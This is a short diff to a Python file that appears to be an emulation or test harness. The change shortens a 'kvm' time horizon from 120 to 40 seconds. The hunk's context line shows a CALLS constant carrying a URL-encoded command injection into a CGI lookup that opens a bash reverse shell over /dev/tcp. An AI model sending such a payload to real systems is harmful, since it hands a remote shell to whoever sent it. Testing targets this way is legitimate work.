@@ -20,7 +20,7 @@ CALLS = "/cgi-bin/lookup?host=localhost%3Bbash+-c+%27exec+3%3C%3E/dev/tcp/10.0.2
 # Time is the host's, and one that is emulated has little of it.
 SLOW = {"wall": "10 min", "handling_instructions": 1000000000000, "horizon_instructions": 1000000000000}
 # Of a clone on kvm that is time, too, and no less than it takes to do the work; one on soft has its own.
-HORIZON = {"soft": "2 s", "kvm": "120 s"}
+HORIZON = {"soft": "2 s", "kvm": "40 s"}
 
 
 def stand_on_kvm(clones):
